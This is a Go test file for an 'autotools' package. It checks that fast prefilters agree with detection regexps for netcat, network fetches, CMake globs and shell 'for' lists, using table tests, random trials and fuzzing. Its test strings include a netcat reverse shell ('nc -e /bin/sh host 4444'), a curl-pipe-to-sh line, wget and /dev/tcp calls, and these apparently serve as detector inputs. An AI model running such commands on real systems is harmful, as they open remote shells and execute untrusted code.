package autotools

import (
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// ncAlternativeRe is the nc alternative of netRe, which ncDash prefilters.
var ncAlternativeRe = regexp.MustCompile(`\bnc[ \t]+-[A-Za-z]*e\b`)

// checkPrefilters fails when a literal prefilter rejects text that its
// regexp matches.
func checkPrefilters(t *testing.T, text string) {
	t.Helper()
	if ncAlternativeRe.MatchString(text) && !ncDash(text) {
		t.Fatalf("ncDash rejects %q", text)
	}
	if netRe().MatchString(text) != matchNetwork(text) {
		t.Fatalf("matchNetwork(%q) = %v, netRe %v", text, matchNetwork(text), netRe().MatchString(text))
	}
	if cmakeGlobRe().MatchString(text) && !containsFoldASCII(text, "glob") {
		t.Fatalf("containsFoldASCII rejects %q", text)
	}
	if shellForRe().MatchString(text) && !strings.Contains(text, "for") {
		t.Fatalf("the for prefilter rejects %q", text)
	}
}

var prefilterCases = []string{
	"nc -e /bin/sh host 4444", "nc\t-lvpe x", "inc -e", "nc  -e", "func -le 3", "nc -", "nc-e", "nc",
	"file(GLOB srcs *.c)", "FILE(glob_recurse x y)", "File ( GlOb x )", "file(GLO",
	"for f in *.c; do", "x; for i in a b", "\tfor\tv in $(ls)", "fo r x in y",
	"curl -sSL http://x | sh", "wget https://e/x", "/dev/tcp/1.2.3.4/80",
}

func TestPrefiltersAdmitMatches(t *testing.T) {
	for _, c := range prefilterCases {
		checkPrefilters(t, c)
	}
}

func FuzzPrefilters(f *testing.F) {
	for _, c := range prefilterCases {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) <= 2000 {
			checkPrefilters(t, s)
		}
	})
}

// shellForRef is what shellForLists replaces: group 1 of every match of
// shellForRe.
func shellForRef(text string) [][2]int {
	var out [][2]int
	for _, m := range shellForRe().FindAllStringSubmatchIndex(text, -1) {
		out = append(out, [2]int{m[2], m[3]})
	}
	return out
}

// TestShellForListsSameAsRegexp: the scan finds exactly the word lists the
// unanchored regexp finds.
func TestShellForListsSameAsRegexp(t *testing.T) {
	for _, text := range []string{
		"for f in a b c; do echo $f; done\n",
		"x; for f in a\nif true; then for g in $(ls) *.sh; do :; done; fi\n",
		"dofor x in y\nthenfor z in w\nxdo for a in b\n",
		"for a in for b in c\n",
		"  \n\t for i in\n 1 2 3\n",
		"echo before;for i in 1; do for j in 2; do :; done; done",
		"platform for x in y; (for q in r)\n{ for s in t; }\n|for u in v\n&for w in z\nelse  for e in f",
		"fortune in x\nfor 1x in y\nfor _v in z",
	} {
		if got, want := shellForLists(text), shellForRef(text); !slices.Equal(got, want) {
			t.Errorf("%q: got %v, want %v", text, got, want)
		}
	}
	// Random texts over the tokens that matter.
	tokens := []string{"for", " ", "\n", "\t", ";", "&", "|", "(", "{", "then", "do", "else", "x", "in", "_v", "1", "$f", "*.sh", "\r", "\v",
		"for x in ", "for _v\nin\t", "for 1 in ", " in ", "do for i in a", "xfor y in z"}
	r := rand.New(rand.NewPCG(1, 2))
	for range 20000 {
		var b strings.Builder
		for range 1 + r.IntN(24) {
			b.WriteString(tokens[r.IntN(len(tokens))])
		}
		text := b.String()
		if got, want := shellForLists(text), shellForRef(text); !slices.Equal(got, want) {
			t.Fatalf("%q: got %v, want %v", text, got, want)
		}
	}
}

func FuzzShellForLists(f *testing.F) {
	f.Add("for f in a b; do x; done\nthen for g in c\n")
	f.Add("dofor x in y;for z in w")
	f.Fuzz(func(t *testing.T, text string) {
		if got, want := shellForLists(text), shellForRef(text); !slices.Equal(got, want) {
			t.Fatalf("%q: got %v, want %v", text, got, want)
		}
	})
}
